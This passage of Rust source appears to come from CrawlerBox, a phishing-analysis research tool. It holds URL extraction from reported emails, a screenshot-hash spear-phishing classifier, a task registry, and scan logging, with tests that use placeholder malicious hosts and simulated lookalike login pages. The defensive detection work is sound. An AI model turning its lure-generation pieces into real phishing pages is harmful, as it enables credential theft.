        FileKind::Png | FileKind::Jpeg | FileKind::Gif | FileKind::Unknown => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cb_phishgen::messages::{build_message, Carrier};
    use cb_sim::{SeedFork, SimTime};

    fn extract_for(carrier: Carrier, url: &str) -> Vec<ExtractedResource> {
        let mut rng = SeedFork::new(3).rng("x");
        let raw = build_message(
            &mut rng,
            carrier,
            Some(url),
            "v@corp.example",
            SimTime::from_ymd(2024, 4, 2),
            false,
            None,
            9,
        );
        let msg = MimeEntity::parse(&raw).unwrap();
        extract_resources(&msg)
    }

    #[test]
    fn body_link_extracted_from_text_and_html() {
        let found = extract_for(Carrier::BodyLink, "https://evil-b.example/tokn1234");
        assert!(found
            .iter()
            .any(|r| r.url == "https://evil-b.example/tokn1234"
                && r.source == ExtractionSource::BodyText));
        assert!(found
            .iter()
            .any(|r| r.source == ExtractionSource::HtmlHref));
    }

    #[test]
    fn clean_qr_extracted_with_source() {
        let found = extract_for(
            Carrier::QrCode { faulty: false },
            "https://evil-q.example/qrtoken1",
        );
        assert!(found.iter().any(|r| r.url == "https://evil-q.example/qrtoken1"
            && r.source == ExtractionSource::QrCode { faulty: false }));
    }

    #[test]
    fn faulty_qr_recovered_and_flagged() {
        let found = extract_for(
            Carrier::QrCode { faulty: true },
            "https://evil-q.example/faulty77",
        );
        assert!(
            found.iter().any(|r| r.url == "https://evil-q.example/faulty77"
                && r.source == ExtractionSource::QrCode { faulty: true }),
            "{found:?}"
        );
    }

    #[test]
    fn image_text_found_by_ocr() {
        let found = extract_for(Carrier::ImageText, "https://evil-i.example/imgtok12");
        assert!(
            found.iter().any(|r| r.url == "https://evil-i.example/imgtok12"
                && r.source == ExtractionSource::ImageOcr),
            "{found:?}"
        );
    }

    #[test]
    fn pdf_annotation_and_pdf_text_paths() {
        let a = extract_for(Carrier::PdfLink, "https://evil-p.example/pdftok12");
        assert!(a.iter().any(|r| r.source == ExtractionSource::PdfAnnotation));
        let b = extract_for(Carrier::PdfText, "https://evil-p.example/pdftxt12");
        assert!(
            b.iter().any(|r| r.url == "https://evil-p.example/pdftxt12"
                && r.source == ExtractionSource::PdfText),
            "{b:?}"
        );
    }

    #[test]
    fn nested_eml_recursed() {
        let found = extract_for(Carrier::NestedEml, "https://evil-n.example/nesttok1");
        assert!(found.iter().any(|r| r.url == "https://evil-n.example/nesttok1"
            && r.source == ExtractionSource::NestedEml));
    }

    #[test]
    fn html_attachment_redirect_detected_dynamically() {
        let found = extract_for(Carrier::HtmlAttachment, "https://evil-h.example/redirect");
        assert!(
            found.iter().any(|r| r.url == "https://evil-h.example/redirect"
                && r.source == ExtractionSource::HtmlAttachment),
            "{found:?}"
        );
    }

    #[test]
    fn zip_hta_member_surfaces_url() {
        let found = extract_for(Carrier::ZipHta, "https://evil-z.example/htatok12");
        assert!(
            found
                .iter()
                .any(|r| r.url.contains("evil-z.example") && r.source == ExtractionSource::ZipMember),
            "{found:?}"
        );
    }

    #[test]
    fn no_resource_message_yields_nothing() {
        let found = extract_for(Carrier::None, "https://unused.example/");
        assert!(found.is_empty(), "{found:?}");
    }

    #[test]
    fn duplicates_are_removed() {
        let mut out = vec![
            ExtractedResource {
                url: "https://a.example/".into(),
                source: ExtractionSource::BodyText,
            },
            ExtractedResource {
                url: "https://a.example/".into(),
                source: ExtractionSource::BodyText,
            },
            ExtractedResource {
                url: "https://a.example/".into(),
                source: ExtractionSource::HtmlHref,
            },
        ];
        out = dedup(out);
        assert_eq!(out.len(), 2);
    }

    #[test]
    fn text_scanner_finds_multiple_urls() {
        let mut out = Vec::new();
        extract_from_text(
            "first https://a.example/x then http://b.example/y.",
            None,
            &mut out,
        );
        assert_eq!(out.len(), 2);
        assert_eq!(out[1].url, "http://b.example/y");
    }

    #[test]
    fn depth_bomb_terminates() {
        // ZIP containing a ZIP containing … beyond MAX_DEPTH.
        let mut inner = ZipArchive::new();
        inner.add("u.txt", b"https://deep.example/x");
        let mut bytes = inner.to_bytes();
        for i in 0..10 {
            let mut z = ZipArchive::new();
            z.add(&format!("layer{i}.zip"), &bytes);
            bytes = z.to_bytes();
        }
        let mut out = Vec::new();
        extract_by_signature(&bytes, 0, None, None, &mut out);
        // must terminate without finding the too-deep URL
        assert!(out.is_empty());
    }

    #[test]
    fn memoized_extraction_is_identical_and_hits_on_reuse() {
        let memo = ArtifactMemo::new();
        let carriers = [
            Carrier::QrCode { faulty: false },
            Carrier::QrCode { faulty: true },
            Carrier::ImageText,
            Carrier::PdfLink,
            Carrier::PdfText,
            Carrier::ZipHta,
            Carrier::NestedEml,
        ];
        for (i, carrier) in carriers.iter().enumerate() {
            let mut rng = SeedFork::new(7).rng("memo");
            let raw = build_message(
                &mut rng,
                *carrier,
                Some(&format!("https://evil-m.example/tok{i}00z")),
                "v@corp.example",
                SimTime::from_ymd(2024, 4, 2),
                false,
                None,
                9,
            );
            let msg = MimeEntity::parse(&raw).unwrap();
            let plain = extract_resources(&msg);
            let first = extract_resources_memo(&msg, Some(&memo));
            let replay = extract_resources_memo(&msg, Some(&memo));
            assert_eq!(plain, first, "{carrier:?}: memoized differs from plain");
            assert_eq!(first, replay, "{carrier:?}: replay differs from first");
        }
        let (hits, misses) = memo.counts();
        assert!(misses > 0, "artifact carriers must populate the memo");
        assert!(hits >= misses, "second passes must replay from cache");
    }

    #[test]
    fn resource_keys_separate_url_and_source() {
        let a = ExtractedResource {
            url: "https://a.example/".into(),
            source: ExtractionSource::QrCode { faulty: false },
        };
        let mut b = a.clone();
        b.source = ExtractionSource::QrCode { faulty: true };
        assert_ne!(resource_key(&a), resource_key(&b));
        let mut c = a.clone();
        c.url = "https://a.example/x".into();
        assert_ne!(resource_key(&a), resource_key(&c));
        assert_eq!(resource_key(&a), resource_key(&a.clone()));
    }
}
