//! Spear-phishing classification (§V-A): visual similarity of crawl
//! screenshots to the five companies' legitimate login pages, via the
//! pHash + dHash pair under a hand-tuned threshold.

use cb_artifacts::Bitmap;
use cb_browser::engine::VIEWPORT;
use cb_imagehash::HashPair;
use cb_phishkit::Brand;
use cb_web::{render, Document};
use serde::{Deserialize, Serialize};

/// The classifier with its reference hash set.
#[derive(Debug, Clone)]
pub struct SpearClassifier {
    references: Vec<(Brand, HashPair)>,
    threshold: u32,
}

/// A positive classification.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct SpearMatch {
    /// The impersonated company.
    pub brand: Brand,
    /// Hamming distance of the worse hash.
    pub distance: u32,
}

/// The hand-tuned default threshold ("we manually define a threshold under
/// which we confirm that two images are considered similar").
pub const DEFAULT_THRESHOLD: u32 = 14;

impl SpearClassifier {
    /// Build references by rendering each company's legitimate login page
    /// at the crawler viewport.
    pub fn new() -> SpearClassifier {
        Self::with_threshold(DEFAULT_THRESHOLD)
    }

    /// Build with a custom similarity threshold.
    pub fn with_threshold(threshold: u32) -> SpearClassifier {
        let references = Brand::companies()
            .into_iter()
            .map(|brand| {
                let doc = Document::parse(&brand.login_html(""));
                let shot = render::rasterize(&doc, VIEWPORT.0, VIEWPORT.1);
                (brand, HashPair::of(&shot))
            })
            .collect();
        SpearClassifier {
            references,
            threshold,
        }
    }

    /// The configured threshold.
    pub fn threshold(&self) -> u32 {
        self.threshold
    }

    /// Classify a crawl screenshot: the closest company within the
    /// threshold, if any.
    pub fn classify(&self, screenshot: &Bitmap) -> Option<SpearMatch> {
        let hash = HashPair::of(screenshot);
        self.references
            .iter()
            .map(|(brand, reference)| SpearMatch {
                brand: *brand,
                distance: hash.distance(reference),
            })
            .filter(|m| m.distance <= self.threshold)
            .min_by_key(|m| m.distance)
    }
}

impl Default for SpearClassifier {
    fn default() -> Self {
        SpearClassifier::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cb_phishkit::scripts::lookalike_login;

    fn shot(html: &str) -> Bitmap {
        render::rasterize(&Document::parse(html), VIEWPORT.0, VIEWPORT.1)
    }

    #[test]
    fn legitimate_pages_match_themselves() {
        let c = SpearClassifier::new();
        for brand in Brand::companies() {
            let m = c
                .classify(&shot(&brand.login_html("")))
                .unwrap_or_else(|| panic!("{brand} must match itself"));
            assert_eq!(m.brand, brand);
            assert_eq!(m.distance, 0);
        }
    }

    #[test]
    fn lookalike_with_noise_and_victim_email_matches() {
        let c = SpearClassifier::new();
        for brand in Brand::companies() {
            let html = lookalike_login(
                brand,
                "https://c2.example",
                &[],
                true,
                false,
                Some("victim-77@corp.example 8fa8d8xk"),
            );
            let m = c.classify(&shot(&html));
            assert!(m.is_some(), "{brand} lookalike must classify as spear");
            assert_eq!(m.unwrap().brand, brand);
        }
    }

    #[test]
    fn hue_rotated_lookalike_still_matches() {
        // §V-C2(d): the trick "is not efficient against CrawlerBox".
        let c = SpearClassifier::new();
        let html = lookalike_login(Brand::Amadora, "https://c2.example", &[], true, true, None);
        let m = c.classify(&shot(&html));
        assert!(m.is_some(), "hue-rotate must not defeat classification");
        assert_eq!(m.unwrap().brand, Brand::Amadora);
    }

    #[test]
    fn commodity_lookalikes_do_not_match_companies() {
        let c = SpearClassifier::new();
        for brand in [Brand::Microsoft, Brand::Excel, Brand::OneDrive, Brand::DocuSign] {
            let html = lookalike_login(brand, "https://c2.example", &[], false, false, None);
            assert!(
                c.classify(&shot(&html)).is_none(),
                "{brand} lure must not classify as company spear"
            );
        }
    }

    #[test]
    fn unrelated_pages_do_not_match() {
        let c = SpearClassifier::new();
        for html in [
            "<body><h2>Site under maintenance</h2><p>back shortly</p></body>",
            "<body><p>a</p><p>b</p><p>c</p><p>d</p><p>e</p><p>f</p><p>g</p></body>",
        ] {
            assert!(c.classify(&shot(html)).is_none(), "{html}");
        }
    }

    #[test]
    fn threshold_is_adjustable() {
        let strict = SpearClassifier::with_threshold(0);
        let html = lookalike_login(
            Brand::SkyBook,
            "https://c2.example",
            &[],
            true,
            false,
            Some("noise"),
        );
        // at threshold 0 only pixel-identical hashes match
        assert!(strict.classify(&shot(&html)).is_none());
        assert_eq!(strict.threshold(), 0);
    }
}
