//! Ingest-task lifecycle for the `crawlboxd` daemon (DESIGN.md §15).
//!
//! Every message accepted over the wire becomes a task with a stable id
//! and a lifecycle the client can poll at `GET /tasks/{id}`:
//!
//! ```text
//! queued ──► scanning ──► durable
//!    │           │
//!    └───────────┴──────► failed
//! ```
//!
//! The crucial distinction is **acked vs durable** (the same split the
//! store's group commit makes): `202 Accepted` on ingest means *queued* —
//! the task is owned by a shard worker — while `durable` is only set
//! after the record's commit batch passes its `fsync` barrier. A client
//! that saw `durable` may SIGKILL the daemon and still find the record
//! after recovery; a client that only saw `202` may not.
//!
//! [`route_shard`] is the partition router: a pure function of the
//! message's 128-bit content hash, stable across restarts and independent
//! of shard-worker scheduling, so re-submitted duplicates land on the
//! shard that already holds them and dedup locally.

use std::collections::{HashMap, VecDeque};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Mutex;

/// Where an ingest task is in its lifecycle.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TaskState {
    /// Accepted and queued for a shard worker.
    Queued,
    /// Picked up by its shard worker; scan in progress or awaiting its
    /// commit barrier.
    Scanning,
    /// The commit batch holding this record has passed its durability
    /// barrier — the record survives SIGKILL.
    Durable,
    /// Scan or append failed; `error` on the snapshot says why.
    Failed,
}

impl TaskState {
    /// Wire name used by the JSON API.
    pub fn as_str(self) -> &'static str {
        match self {
            TaskState::Queued => "queued",
            TaskState::Scanning => "scanning",
            TaskState::Durable => "durable",
            TaskState::Failed => "failed",
        }
    }
}

/// A point-in-time view of one task, as served at `GET /tasks/{id}`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TaskSnapshot {
    /// Daemon-unique task id.
    pub id: u64,
    /// Shard partition the task routed to.
    pub shard: usize,
    /// FNV-128 content hash of the raw message bytes.
    pub content_hash: u128,
    /// Lifecycle state.
    pub state: TaskState,
    /// Failure reason, when `state == Failed`.
    pub error: Option<String>,
}

/// Route a message to a store partition by content hash.
///
/// Pure and stable: the same hash maps to the same shard across daemon
/// restarts and for any worker interleaving. The 128-bit hash is folded
/// to 64 bits and mixed (splitmix-style) so partitions stay balanced even
/// when the low hash bits correlate; deliberately distinct from the
/// store's *internal* segment-shard function so a partition's own
/// sub-sharding stays uniform.
pub fn route_shard(content_hash: u128, shards: usize) -> usize {
    let folded = (content_hash as u64) ^ ((content_hash >> 64) as u64);
    let mixed = folded.wrapping_mul(0x9E37_79B9_7F4A_7C15);
    let mixed = mixed ^ (mixed >> 32);
    (mixed % shards.max(1) as u64) as usize
}

/// Thread-safe task table with bounded retention of finished tasks.
///
/// Live (queued/scanning) tasks are never evicted; finished ones
/// (durable/failed) are kept FIFO up to `retain` so `/tasks/{id}` stays
/// answerable for a polling client without the table growing with total
/// ingest volume.
pub struct TaskRegistry {
    next_id: AtomicU64,
    inner: Mutex<Tasks>,
}

struct Tasks {
    by_id: HashMap<u64, TaskSnapshot>,
    finished: VecDeque<u64>,
    retain: usize,
}

impl TaskRegistry {
    /// A registry retaining up to `retain` finished tasks (min 1).
    pub fn new(retain: usize) -> TaskRegistry {
        TaskRegistry {
            next_id: AtomicU64::new(1),
            inner: Mutex::new(Tasks {
                by_id: HashMap::new(),
                finished: VecDeque::new(),
                retain: retain.max(1),
            }),
        }
    }

    /// Create a task in `Queued` and return its snapshot.
    pub fn create(&self, shard: usize, content_hash: u128) -> TaskSnapshot {
        let id = self.next_id.fetch_add(1, Ordering::Relaxed);
        let snap =
            TaskSnapshot { id, shard, content_hash, state: TaskState::Queued, error: None };
        self.inner.lock().expect("task registry poisoned").by_id.insert(id, snap.clone());
        snap
    }

    /// Move a task to `state`. Durable/failed transitions enter the
    /// bounded finished queue (evicting the oldest finished task when
    /// full); unknown ids are ignored (already evicted).
    pub fn set_state(&self, id: u64, state: TaskState) {
        self.finish(id, state, None);
    }

    /// Fail a task with a reason.
    pub fn fail(&self, id: u64, error: impl Into<String>) {
        self.finish(id, TaskState::Failed, Some(error.into()));
    }

    fn finish(&self, id: u64, state: TaskState, error: Option<String>) {
        let mut inner = self.inner.lock().expect("task registry poisoned");
        let Some(task) = inner.by_id.get_mut(&id) else { return };
        task.state = state;
        task.error = error;
        if matches!(state, TaskState::Durable | TaskState::Failed) {
            inner.finished.push_back(id);
            while inner.finished.len() > inner.retain {
                if let Some(old) = inner.finished.pop_front() {
                    inner.by_id.remove(&old);
                }
            }
        }
    }

    /// Look up a task by id (`None` after eviction).
    pub fn get(&self, id: u64) -> Option<TaskSnapshot> {
        self.inner.lock().expect("task registry poisoned").by_id.get(&id).cloned()
    }

    /// Number of tasks currently tracked (live + retained finished).
    pub fn len(&self) -> usize {
        self.inner.lock().expect("task registry poisoned").by_id.len()
    }

    /// Whether the registry tracks no tasks.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lifecycle_states_round_trip() {
        let reg = TaskRegistry::new(8);
        let t = reg.create(2, 0xabcd);
        assert_eq!(t.state, TaskState::Queued);
        assert_eq!(t.shard, 2);
        reg.set_state(t.id, TaskState::Scanning);
        assert_eq!(reg.get(t.id).unwrap().state, TaskState::Scanning);
        reg.set_state(t.id, TaskState::Durable);
        let done = reg.get(t.id).unwrap();
        assert_eq!(done.state, TaskState::Durable);
        assert_eq!(done.error, None);
        assert_eq!(done.state.as_str(), "durable");
    }

    #[test]
    fn failed_tasks_carry_their_reason() {
        let reg = TaskRegistry::new(8);
        let t = reg.create(0, 1);
        reg.fail(t.id, "shard queue full");
        let failed = reg.get(t.id).unwrap();
        assert_eq!(failed.state, TaskState::Failed);
        assert_eq!(failed.error.as_deref(), Some("shard queue full"));
    }

    #[test]
    fn finished_tasks_are_evicted_fifo_but_live_tasks_never() {
        let reg = TaskRegistry::new(2);
        let live = reg.create(0, 0);
        let finished: Vec<u64> = (0..4)
            .map(|i| {
                let t = reg.create(0, i as u128);
                reg.set_state(t.id, TaskState::Durable);
                t.id
            })
            .collect();
        // Only the last `retain` finished tasks survive; the live one does.
        assert!(reg.get(finished[0]).is_none());
        assert!(reg.get(finished[1]).is_none());
        assert!(reg.get(finished[2]).is_some());
        assert!(reg.get(finished[3]).is_some());
        assert!(reg.get(live.id).is_some());
        assert_eq!(reg.len(), 3);
    }

    #[test]
    fn ids_are_unique_across_threads() {
        let reg = std::sync::Arc::new(TaskRegistry::new(1024));
        let handles: Vec<_> = (0..4)
            .map(|_| {
                let reg = reg.clone();
                std::thread::spawn(move || {
                    (0..100).map(|_| reg.create(0, 0).id).collect::<Vec<u64>>()
                })
            })
            .collect();
        let mut ids: Vec<u64> =
            handles.into_iter().flat_map(|h| h.join().unwrap()).collect();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), 400);
    }

    #[test]
    fn route_shard_is_stable_and_balanced() {
        // Stability: a pinned value must never change across releases —
        // restarted daemons depend on it to find existing records.
        assert_eq!(route_shard(0xdead_beef_dead_beef_0123_4567_89ab_cdef, 4), route_shard(0xdead_beef_dead_beef_0123_4567_89ab_cdef, 4));
        assert_eq!(route_shard(42, 1), 0);
        assert_eq!(route_shard(42, 0), 0); // degenerate shard count clamps

        // Balance: sequential hashes (worst case for a plain modulus)
        // spread within 2x of even across 8 shards.
        let shards = 8;
        let mut counts = vec![0usize; shards];
        for i in 0..8000u128 {
            counts[route_shard(i, shards)] += 1;
        }
        for &c in &counts {
            assert!(c > 500 && c < 2000, "unbalanced shard routing: {counts:?}");
        }
    }
}
