//! The logging phase (§IV-C): everything CrawlerBox records about one
//! scanned message, enriched with WHOIS / CT / passive-DNS context.

use crate::classify::SpearMatch;
use crate::extract::ExtractedResource;
use cb_browser::engine::VisitOutcome;
use cb_imagehash::HashPair;
use cb_netsim::{QueryVolume, Url};
use cb_phishgen::MessageClass;
use cb_sim::{SimDuration, SimTime};
use serde::{Deserialize, Serialize};

/// One attempt in a supervised visit's history: which retry it was, what
/// transient faults it observed, and how long the supervisor backed off
/// before issuing it.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AttemptLog {
    /// Zero-based attempt index.
    pub attempt: u32,
    /// Transient-fault provenance notes from this attempt.
    pub failures: Vec<String>,
    /// Backoff the supervisor waited before this attempt (zero for the
    /// first attempt).
    pub waited: SimDuration,
}

/// One crawled resource's log entry.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct VisitLog {
    /// The URL the pipeline requested.
    pub requested_url: String,
    /// The navigation chain `(url, status)`.
    pub chain: Vec<(String, u16)>,
    /// Final outcome.
    pub outcome: VisitOutcome,
    /// Final HTTP status.
    pub status: u16,
    /// Whether the final page shows a credential form.
    pub login_form: bool,
    /// pHash/dHash of the screenshot, when one was captured.
    pub screenshot_hash: Option<HashPair>,
    /// Spear classification, when positive.
    pub spear: Option<SpearMatch>,
    /// Subresource loads `(url, status)` — hotlinking evidence.
    pub subresources: Vec<(String, u16)>,
    /// Script-initiated fetches `(url, body, status)` — exfiltration
    /// evidence.
    pub exfil: Vec<(String, String, u16)>,
    /// Scripts hijacked console methods.
    pub console_hijacked: bool,
    /// `debugger;` statements executed.
    pub debugger_hits: usize,
    /// Gate kinds encountered and solved by custom code (`otp`, `math`).
    pub gates_solved: Vec<String>,
    /// WHOIS registration instant of the landing domain.
    pub domain_registered_at: Option<SimTime>,
    /// Registrar of the landing domain.
    pub registrar: Option<String>,
    /// First CT-log certificate issuance of the landing domain.
    pub cert_issued_at: Option<SimTime>,
    /// Passive-DNS volume over the 30 days before delivery.
    pub dns_volume: Option<QueryVolume>,
    /// Shodan-style service banner of the landing host.
    pub banner: Option<String>,
    /// Fingerprint of the landing domain's first CT-log certificate
    /// (stable hash over serial, domain and issuance instant) — the
    /// campaign-clustering key the store indexes on. Absent when the
    /// domain never obtained a certificate.
    #[serde(default)]
    pub cert_fingerprint: Option<u64>,
    /// Whether the final page injected a hue-rotate filter.
    pub hue_rotated: bool,
    /// Attempt history under the crawl supervisor (one entry per attempt;
    /// a single entry with no failures is the common fault-free case).
    #[serde(default)]
    pub attempts: Vec<AttemptLog>,
    /// Total simulated time the visit consumed across attempts, including
    /// backoff waits.
    #[serde(default)]
    pub elapsed: SimDuration,
    /// Structured error provenance when the supervised visit still failed
    /// (retries exhausted, budget spent, or circuit breaker open).
    #[serde(default)]
    pub error: Option<String>,
}

impl VisitLog {
    /// The landing (final) URL.
    pub fn final_url(&self) -> &str {
        self.chain
            .last()
            .map(|(u, _)| u.as_str())
            .unwrap_or(&self.requested_url)
    }

    /// The landing domain (host of the final URL).
    pub fn landing_domain(&self) -> Option<String> {
        Url::parse(self.final_url()).ok().map(|u| u.host)
    }
}

/// Scheduler and cache instrumentation accumulated by a
/// [`CrawlerBox`](crate::pipeline::CrawlerBox) across its scans:
/// work-stealing steal
/// counts and hit/miss counts of the enrichment, artifact-decode and
/// screenshot caches. Counters are observability only — they never feed
/// back into scan results, which stay bit-identical with caches on or off.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct ScanStats {
    /// Messages scanned through `scan_all` batches.
    pub messages: u64,
    /// Batch indices a worker pulled from outside its static fair-share
    /// range (always 0 under the serial and static-chunk schedulers).
    pub steals: u64,
    /// Host-enrichment cache hits (per-scan WHOIS/CT/passive-DNS/banner
    /// bundles served from memory).
    pub enrich_hits: u64,
    /// Host-enrichment cache misses (bundles fetched from the registries).
    pub enrich_misses: u64,
    /// Artifact-decode cache hits (image/PDF decodes replayed by content
    /// hash).
    pub artifact_hits: u64,
    /// Artifact-decode cache misses (decodes computed and stored).
    pub artifact_misses: u64,
    /// Screenshot cache hits (pHash/dHash + spear classification replayed).
    pub screenshot_hits: u64,
    /// Screenshot cache misses.
    pub screenshot_misses: u64,
    /// Peak number of messages admitted to a streaming scan but not yet
    /// delivered to the sink. Bounded by `stream_capacity + workers`, which
    /// is what makes `scan_stream` O(window) rather than O(corpus) in
    /// memory. Zero for batch-only boxes (and for legacy serialized stats).
    #[serde(default)]
    pub peak_in_flight: u64,
    /// Peak number of finished records parked in the streaming reorder
    /// buffer waiting for an earlier message's scan to complete. Bounded by
    /// `peak_in_flight`; high values mean one slow message stalled in-order
    /// delivery.
    #[serde(default)]
    pub peak_reorder: u64,
    /// Peak raw message bytes resident in the streaming window (counted
    /// from admission until the record's in-order delivery).
    #[serde(default)]
    pub peak_bytes_retained: u64,
    /// Messages skipped by the incremental-scan filter because their
    /// content hash was already recorded in a reopened store (delta
    /// scans). Zero unless a known-hash set was installed.
    #[serde(default)]
    pub skipped_known: u64,
    /// Records a persistence sink dropped after its store was poisoned by
    /// an append error (the sink stops writing; drops are counted, not
    /// silent). The pipeline itself never drops records — runs that
    /// persist fill this in from the store sink after the stream ends.
    #[serde(default)]
    pub store_dropped: u64,
}

impl ScanStats {
    /// Aggregate hit rate over all three deterministic caches (enrichment,
    /// artifact decode, screenshot analysis), in `[0, 1]`. Zero when no
    /// cache was consulted (e.g. caching disabled).
    pub fn cache_hit_rate(&self) -> f64 {
        let hits = self.enrich_hits + self.artifact_hits + self.screenshot_hits;
        let total = hits + self.enrich_misses + self.artifact_misses + self.screenshot_misses;
        if total == 0 {
            0.0
        } else {
            hits as f64 / total as f64
        }
    }
}

impl std::fmt::Display for ScanStats {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "messages {} steals {} skipped {} dropped {} | enrich {}/{} artifact {}/{} screenshot {}/{} (hits/misses) | peak in-flight {} reorder {} bytes {}",
            self.messages,
            self.steals,
            self.skipped_known,
            self.store_dropped,
            self.enrich_hits,
            self.enrich_misses,
            self.artifact_hits,
            self.artifact_misses,
            self.screenshot_hits,
            self.screenshot_misses,
            self.peak_in_flight,
            self.peak_reorder,
            self.peak_bytes_retained,
        )
    }
}

/// What kind of bytes a captured artifact holds.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum ArtifactKind {
    /// The raw reported message (wire-format MIME).
    Message,
    /// A screenshot of a crawled page (`CBXBMP1` bitmap bytes).
    Screenshot,
}

impl ArtifactKind {
    /// Short stable label (used by store manifests and queries).
    pub fn label(self) -> &'static str {
        match self {
            ArtifactKind::Message => "message",
            ArtifactKind::Screenshot => "screenshot",
        }
    }
}

/// Raw bytes captured during a scan for content-addressed archival:
/// the reported message itself and the screenshots of crawled pages.
///
/// Artifacts ride on the [`ScanRecord`] but are **not** part of its
/// canonical encoding (`#[serde(skip)]` on the record field): the record
/// stores the content hash, the bytes live in the blob store, and the
/// record's byte encoding stays identical whether capture is on or off.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CapturedArtifact {
    /// What the bytes are.
    pub kind: ArtifactKind,
    /// 128-bit FNV content hash of `bytes` (the blob-store address).
    pub hash: u128,
    /// The raw bytes.
    pub bytes: Vec<u8>,
}

/// The complete scan record of one reported message.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct ScanRecord {
    /// Corpus message id.
    pub message_id: usize,
    /// 128-bit FNV content hash of the raw message bytes — the identity
    /// the persistent store dedups and incremental re-scans key on. Zero
    /// for legacy logs written before the store existed.
    #[serde(default)]
    pub content_hash: u128,
    /// Delivery instant (from the message `Date:` header).
    pub delivered_at: SimTime,
    /// Parsed authentication results (§V-C1).
    pub auth_pass: bool,
    /// Resources the parsing phase extracted.
    pub extracted: Vec<ExtractedResource>,
    /// Crawl logs, one per crawled resource.
    pub visits: Vec<VisitLog>,
    /// Message body size in bytes (noise-padding signal).
    pub body_bytes: usize,
    /// Consecutive blank lines in the body (noise-padding signal).
    pub blank_line_run: usize,
    /// The derived §V class.
    pub class: MessageClass,
    /// Set when the scan itself degraded (e.g. a worker panic was isolated
    /// by `scan_all`); the record is then a placeholder, not a crawl.
    #[serde(default)]
    pub error: Option<String>,
    /// Raw artifacts captured for the blob store when artifact capture is
    /// on (the message bytes, screenshots of crawled pages). Never
    /// serialized: the canonical record encoding is identical with capture
    /// on or off, and the bytes live in the content-addressed blob store.
    #[serde(skip)]
    pub artifacts: Vec<CapturedArtifact>,
}

impl ScanRecord {
    /// The first visit that loaded an active phishing page, if any.
    pub fn phish_visit(&self) -> Option<&VisitLog> {
        self.visits
            .iter()
            .find(|v| v.outcome == VisitOutcome::Loaded && v.login_form)
    }

    /// The spear classification of this message, if any visit matched.
    pub fn spear_match(&self) -> Option<SpearMatch> {
        self.visits.iter().find_map(|v| v.spear)
    }

    /// `true` when any extracted resource came from a faulty QR code.
    pub fn has_faulty_qr(&self) -> bool {
        self.extracted.iter().any(|r| {
            matches!(
                r.source,
                crate::extract::ExtractionSource::QrCode { faulty: true }
            )
        })
    }
}

/// Write scan records as JSON Lines — the on-disk crawl log CrawlerBox's
/// logging phase produces ("thoroughly logged … the collected data is
/// enriched", §IV-C).
///
/// # Errors
///
/// Propagates I/O errors from the writer.
pub fn write_jsonl<W: std::io::Write>(
    mut writer: W,
    records: &[ScanRecord],
) -> std::io::Result<()> {
    for r in records {
        serde_json::to_writer(&mut writer, r)
            .map_err(|e| std::io::Error::new(std::io::ErrorKind::InvalidData, e))?;
        writer.write_all(b"\n")?;
    }
    Ok(())
}

/// Read scan records back from a JSON Lines stream.
///
/// # Errors
///
/// Returns an error on I/O failure or malformed lines.
pub fn read_jsonl<R: std::io::BufRead>(reader: R) -> std::io::Result<Vec<ScanRecord>> {
    let mut out = Vec::new();
    for line in reader.lines() {
        let line = line?;
        if line.trim().is_empty() {
            continue;
        }
        out.push(
            serde_json::from_str(&line)
                .map_err(|e| std::io::Error::new(std::io::ErrorKind::InvalidData, e))?,
        );
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::extract::ExtractionSource;

    fn empty_visit(url: &str) -> VisitLog {
        VisitLog {
            requested_url: url.to_string(),
            chain: vec![(url.to_string(), 200)],
            outcome: VisitOutcome::Loaded,
            status: 200,
            login_form: false,
            screenshot_hash: None,
            spear: None,
            subresources: Vec::new(),
            exfil: Vec::new(),
            console_hijacked: false,
            debugger_hits: 0,
            gates_solved: Vec::new(),
            domain_registered_at: None,
            registrar: None,
            cert_issued_at: None,
            dns_volume: None,
            banner: None,
            cert_fingerprint: None,
            hue_rotated: false,
            attempts: Vec::new(),
            elapsed: SimDuration::ZERO,
            error: None,
        }
    }

    #[test]
    fn landing_domain_extraction() {
        let mut v = empty_visit("https://a.example/x");
        v.chain.push(("https://final.example/land".to_string(), 200));
        assert_eq!(v.final_url(), "https://final.example/land");
        assert_eq!(v.landing_domain().as_deref(), Some("final.example"));
    }

    #[test]
    fn phish_visit_requires_login_form() {
        let mut record = ScanRecord {
            message_id: 0,
            content_hash: 0,
            delivered_at: SimTime::EPOCH,
            auth_pass: true,
            extracted: Vec::new(),
            visits: vec![empty_visit("https://a.example/")],
            body_bytes: 100,
            blank_line_run: 0,
            class: MessageClass::ErrorPage,
            error: None,
            artifacts: Vec::new(),
        };
        assert!(record.phish_visit().is_none());
        record.visits[0].login_form = true;
        assert!(record.phish_visit().is_some());
    }

    #[test]
    fn faulty_qr_detection() {
        let record = ScanRecord {
            message_id: 1,
            content_hash: 0,
            delivered_at: SimTime::EPOCH,
            auth_pass: true,
            extracted: vec![ExtractedResource {
                url: "https://x.example/".into(),
                source: ExtractionSource::QrCode { faulty: true },
            }],
            visits: Vec::new(),
            body_bytes: 10,
            blank_line_run: 0,
            class: MessageClass::NoResource,
            error: None,
            artifacts: Vec::new(),
        };
        assert!(record.has_faulty_qr());
    }

    #[test]
    fn records_serialize() {
        let v = empty_visit("https://a.example/");
        let json = serde_json::to_string(&v).unwrap();
        assert!(json.contains("requested_url"));
    }

    #[test]
    fn jsonl_round_trips() {
        let record = ScanRecord {
            message_id: 7,
            content_hash: 0xDEAD_BEEF,
